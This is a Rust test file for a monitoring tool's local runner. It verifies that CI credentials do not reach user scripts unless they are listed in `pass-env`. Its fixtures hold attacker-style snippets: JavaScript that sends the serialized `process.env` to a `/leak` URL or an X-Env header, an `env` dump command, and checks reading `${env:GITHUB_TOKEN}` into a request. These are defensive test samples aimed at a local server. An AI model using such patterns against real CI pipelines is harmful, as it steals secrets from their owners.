//! Issue 43 item 1: `monform test --local` runs the files' scripts (in CI
//! a pull request's) with an environment built from nothing. A BROWSER
//! script, a PLAYWRIGHT `testCommand` and an API setup script that print
//! and send away `process.env` show none of the CI's credentials, only
//! the project's and the check's variables and what `[project] pass-env`
//! names. Skipped where Node.js, playwright-core and Chromium are missing,
//! unless MONFORM_REQUIRE_BROWSER is set.

use crate::common;

use common::*;
use monform_testkit::targets::{HttpTarget, Reply, path_of};

/// What the CI job holds: none of it may reach a script.
const CI_SECRETS: &[(&str, &str)] = &[
    ("MONFORM_API_KEY", "mk-marker1-5c1e0f"),
    ("GITHUB_TOKEN", "ghp-marker2-77aa31"),
    ("AWS_SECRET_ACCESS_KEY", "aws-marker3-0b9d"),
];
/// Named in `[project] pass-env`: scripts see it.
const PASSED: (&str, &str) = ("MONFORM_IT_PASSED", "passed-visible-4e2");

const MONFORM_TOML: &str = r#"[project]
name = "leaky"
pass-env = ["MONFORM_IT_PASSED"]

[defaults]
locations = ["eu-west-1"]
frequency = 10
"#;

const MONITORS: &str = r#"variables:
  PROJECT_VAR:
    value: project-visible-81c
  TARGET:
    value: "{BASE}"

checks:
  leak:
    checkType: BROWSER
    name: Prints the environment
    degradedResponseTime: 60000
    maxResponseTime: 120000
    environmentVariables:
      - { key: CHECK_VAR, value: check-visible-3f7 }
    script: { file: scripts/leak.js }
  suite:
    checkType: PLAYWRIGHT
    name: A testCommand printing the environment
    degradedResponseTime: 60000
    maxResponseTime: 120000
    codeBundlePath: e2e
    testCommand: "env; node -e 'console.log(\"node sees \" + Object.keys(process.env).join(\",\"))'"
  api:
    checkType: API
    name: A setup script sending the environment
    degradedResponseTime: 60000
    maxResponseTime: 120000
    localSetupScript: { file: scripts/setup.js }
    request:
      method: GET
      url: "{BASE}/api"
      assertions:
        - { source: STATUS_CODE, comparison: EQUALS, target: "200" }
"#;

/// What an attacker's script does: print the environment and send it away,
/// then use the browser (Chromium must still start).
const LEAK_JS: &str = r#"console.log('all ' + JSON.stringify(process.env))
await request.get(process.env.TARGET + '/leak?env=' + encodeURIComponent(JSON.stringify(process.env)))
await page.goto(process.env.TARGET + '/')
await expect(page).toHaveTitle('Leak Target')
"#;

const SETUP_JS: &str = r#"request.headers['X-Env'] = JSON.stringify(process.env)
"#;

fn browser_ready() -> bool {
    match monform_runner::BrowserSetup::discover(Some(&repo_root())).missing(true) {
        None => true,
        Some(why) if std::env::var_os("MONFORM_REQUIRE_BROWSER").is_some() => panic!("{why}"),
        Some(why) => {
            monform_testkit::skipped(&format!("{why} (MONFORM_REQUIRE_BROWSER=1 fails instead)"));
            false
        }
    }
}

fn write(dir: &std::path::Path, path: &str, text: &str) {
    let path = dir.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// `monform test --local ARGS` with the CI's secrets and `extra` (a name
/// and its value) in its environment.
fn run_local(project: &std::path::Path, args: &[&str], extra: (&str, &str)) -> std::process::Output {
    let mut command = monform();
    command
        .current_dir(project)
        .args(["test", "--local"])
        .args(args)
        .env_remove("MONFORM_CHROMIUM")
        .env(extra.0, extra.1);
    for (name, value) in CI_SECRETS {
        command.env(name, value);
    }
    command.output().unwrap()
}

/// [`run_local`] with the passed name, as exit code, stdout and stderr.
fn local(project: &std::path::Path, args: &[&str]) -> (i32, String, String) {
    let output = run_local(project, args, PASSED);
    (output.status.code().unwrap_or(-1), stdout(&output), stderr(&output))
}

fn no_secret_in(what: &str, text: &str) {
    for (name, value) in CI_SECRETS {
        assert!(!text.contains(value), "{name}'s value reached {what}:\n{text}");
    }
}

#[test]
fn scripts_see_the_project_variables_and_pass_env_never_the_ci_credentials() {
    if !browser_ready() {
        return;
    }
    let target = HttpTarget::start(|head| match path_of(&head.to_lowercase()) {
        "/" => Reply::new(
            "200 OK",
            "text/html",
            "<html><head><title>Leak Target</title></head><body>hi</body></html>",
        ),
        _ => Reply::new("200 OK", "application/json", "{}"),
    });
    let project = tempfile::tempdir().unwrap();
    let dir = project.path();
    write(dir, "monform.toml", MONFORM_TOML);
    write(dir, "monitors.yaml", &MONITORS.replace("{BASE}", &target.url()));
    write(dir, "scripts/leak.js", LEAK_JS);
    write(dir, "scripts/setup.js", SETUP_JS);
    write(dir, "e2e/README", "the suite is its testCommand\n");
    let junit = dir.join("junit.xml");

    let (code, out, err) = local(dir, &["--verbose", "--junit", junit.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}\n{err}");
    assert!(out.contains("3 passed, 0 degraded, 0 failed (3 runs)"), "{out}\n{err}");
    no_secret_in("stdout", &out);
    no_secret_in("stderr", &err);
    no_secret_in("the JUnit report", &std::fs::read_to_string(&junit).unwrap());
    no_secret_in("the target", &target.requests().join("\n"));

    // The BROWSER script saw the variables, the passed name and a HOME of
    // the run's own, and sent them (decoded here) to the target.
    let leak = out
        .lines()
        .find(|l| l.trim_start().starts_with("all {"))
        .unwrap_or_else(|| panic!("{out}"));
    for visible in ["project-visible-81c", "check-visible-3f7", PASSED.1] {
        assert!(leak.contains(visible), "{visible} not seen: {leak}");
    }
    let sent = target
        .requests()
        .into_iter()
        .find(|r| r.contains("/leak?env="))
        .unwrap_or_else(|| panic!("nothing sent: {:?}", target.requests()));
    assert!(sent.contains("project-visible-81c"), "{sent}");
    // The testCommand (`env`, then Node) and the API setup script too.
    assert!(out.contains(&format!("{}={}", PASSED.0, PASSED.1)), "{out}");
    assert!(out.contains("PROJECT_VAR=project-visible-81c"), "{out}");
    assert!(out.contains("node sees "), "{out}");
    let api = target
        .requests()
        .into_iter()
        .find(|r| r.starts_with("GET /api"))
        .unwrap_or_else(|| panic!("no API request: {:?}", target.requests()));
    assert!(api.contains(PASSED.1) && api.contains("project-visible-81c"), "{api}");
    for name in ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "MONFORM_API_KEY"] {
        assert!(
            !api.contains(name),
            "{name} named in the setup script's environment: {api}"
        );
    }

    let (code, json, err) = local(dir, &["--format", "json"]);
    assert_eq!(code, 0, "{json}\n{err}");
    no_secret_in("the JSON report", &json);
    no_secret_in("stderr", &err);
}

/// monform's own credentials cannot be passed on by naming them.
#[test]
fn pass_env_cannot_name_monforms_credentials() {
    let project = tempfile::tempdir().unwrap();
    write(
        project.path(),
        "monform.toml",
        "[project]\nname = \"leaky\"\npass-env = [\"HTTPS_PROXY\", \"MONFORM_API_KEY\"]\n",
    );
    let (code, out, err) = local(project.path(), &[]);
    assert_eq!(code, 1, "{out}\n{err}");
    assert!(
        err.contains("project.pass-env: `MONFORM_API_KEY` is monform's own credential: scripts never see it"),
        "{err}"
    );
    assert!(err.contains("monform.toml:3:28"), "{err}");
    no_secret_in("stderr", &err);
    no_secret_in("stdout", &out);
}

/// The value of `${env:LEAK_MARKER}` in the tests below: what a pull
/// request would have the runner send, or a script print.
const LEAK_MARKER: (&str, &str) = ("LEAK_MARKER", "leak-marker-value-6b0d2");

/// The line of `out` reporting `address`'s run.
fn run_line<'a>(out: &'a str, address: &str) -> &'a str {
    out.lines()
        .find(|l| l.split_whitespace().nth(1) == Some(address))
        .unwrap_or_else(|| panic!("no run of {address}:\n{out}"))
}

/// Issue 43: a pull request hands a CI variable to the runner through the
/// files themselves: an API check whose header (or URL, through `[vars]`)
/// reads `${env:}` sends it to a URL of its choosing.
/// `test --local` does not run such a check unless `[project] pass-env`
/// lists the variable: an error result naming the check, the field and
/// `${env:NAME}`, never the value; the other checks still run.
#[test]
fn an_api_check_reading_a_variable_pass_env_does_not_list_is_not_run() {
    let target = HttpTarget::start(|_| Reply::new("200 OK", "application/json", "{}"));
    let project = tempfile::tempdir().unwrap();
    let dir = project.path();
    let checks = r#"checks:
  leak:
    checkType: API
    name: Sends a header of the environment
    request:
      method: GET
      url: "{BASE}/leak"
      headers: [{ key: X-Leak, value: "${env:LEAK_MARKER}" }]
      assertions:
        - { source: STATUS_CODE, comparison: EQUALS, target: "200" }
  templated:
    checkType: API
    name: Sends a variable of the environment in its URL
    request: { method: GET, url: "{BASE}/t?token=${var:token}" }
  plain:
    checkType: API
    name: Reads nothing of the environment
    request: { method: GET, url: "{BASE}/plain" }
"#;
    write(
        dir,
        "monform.toml",
        "[project]\nname = \"leaky\"\n\n[vars]\ntoken = \"${env:GITHUB_TOKEN}\"\n\n[defaults]\nlocations = [\"eu-west-1\"]\nfrequency = 10\n",
    );
    write(dir, "monitors.yaml", &checks.replace("{BASE}", &target.url()));

    let output = run_local(dir, &[], LEAK_MARKER);
    let (out, err) = (stdout(&output), stderr(&output));
    assert_eq!(output.status.code(), Some(1), "{out}\n{err}");
    let sent = target.requests().join("\n");
    assert!(!sent.contains(LEAK_MARKER.1), "the marker was sent: {sent}");
    no_secret_in("the target", &sent);
    assert!(
        sent.contains("GET /plain"),
        "the other check did not run: {sent}\n{out}\n{err}"
    );
    assert!(
        !sent.contains("/leak") && !sent.contains("/t?"),
        "a refused check ran: {sent}"
    );
    for text in [&out, &err] {
        assert!(!text.contains(LEAK_MARKER.1), "{text}");
        no_secret_in("the output", text);
    }
    assert!(
        out.contains("request.headers[0].value reads `${env:LEAK_MARKER}`"),
        "{out}"
    );
    assert!(out.contains("request.url reads `${env:GITHUB_TOKEN}`"), "{out}");
    assert!(
        out.contains("hint: list LEAK_MARKER in [project] pass-env to let test --local use it"),
        "{out}"
    );
    insta::assert_snapshot!("unpassed_env_refused", steady_columns(&transcript(&output)));

    // Named in pass-env, the value is the project's to use: sent, and the
    // check passes (the templated one still reads GITHUB_TOKEN).
    write(
        dir,
        "monform.toml",
        "[project]\nname = \"leaky\"\npass-env = [\"LEAK_MARKER\"]\n\n[vars]\ntoken = \"${env:GITHUB_TOKEN}\"\n\n[defaults]\nlocations = [\"eu-west-1\"]\nfrequency = 10\n",
    );
    let output = run_local(dir, &[], LEAK_MARKER);
    let out = stdout(&output);
    assert!(run_line(&out, "checks.leak").starts_with("PASSED"), "{out}");
    assert!(run_line(&out, "checks.templated").starts_with("FAILED"), "{out}");
    let leak = target
        .requests()
        .into_iter()
        .find(|r| r.starts_with("GET /leak"))
        .unwrap_or_else(|| panic!("no request to /leak: {:?}", target.requests()));
    assert!(leak.contains(LEAK_MARKER.1), "{leak}");
    no_secret_in("the target", &target.requests().join("\n"));
}

/// The same for a script: a BROWSER check whose `environmentVariables`
/// read `${env:LEAK_MARKER}` and whose script prints `process.env` never
/// prints the value unless pass-env lists the name.
#[test]
fn a_browser_check_reading_a_variable_pass_env_does_not_list_is_not_run() {
    if !browser_ready() {
        return;
    }
    let project = tempfile::tempdir().unwrap();
    let dir = project.path();
    let checks = r#"checks:
  leak:
    checkType: BROWSER
    name: Prints the environment
    degradedResponseTime: 60000
    maxResponseTime: 120000
    environmentVariables: [{ key: T, value: "${env:LEAK_MARKER}" }]
    script: "console.log('all ' + JSON.stringify(process.env))"
"#;
    write(
        dir,
        "monform.toml",
        "[project]\nname = \"leaky\"\n\n[defaults]\nlocations = [\"eu-west-1\"]\nfrequency = 10\n",
    );
    write(dir, "monitors.yaml", checks);

    let output = run_local(dir, &["--verbose"], LEAK_MARKER);
    let (out, err) = (stdout(&output), stderr(&output));
    assert_eq!(output.status.code(), Some(1), "{out}\n{err}");
    assert!(
        !out.contains(LEAK_MARKER.1) && !err.contains(LEAK_MARKER.1),
        "{out}\n{err}"
    );
    assert!(!out.contains("all {"), "the script ran: {out}");
    assert!(
        out.contains("environmentVariables[0].value reads `${env:LEAK_MARKER}`"),
        "{out}"
    );

    write(
        dir,
        "monform.toml",
        "[project]\nname = \"leaky\"\npass-env = [\"LEAK_MARKER\"]\n\n[defaults]\nlocations = [\"eu-west-1\"]\nfrequency = 10\n",
    );
    let output = run_local(dir, &["--verbose"], LEAK_MARKER);
    let out = stdout(&output);
    assert_eq!(output.status.code(), Some(0), "{out}\n{}", stderr(&output));
    let printed = out
        .lines()
        .find(|l| l.trim_start().starts_with("all {"))
        .unwrap_or_else(|| panic!("{out}"));
    assert!(printed.contains(&format!("\"T\":\"{}\"", LEAK_MARKER.1)), "{printed}");
    no_secret_in("stdout", &out);
}
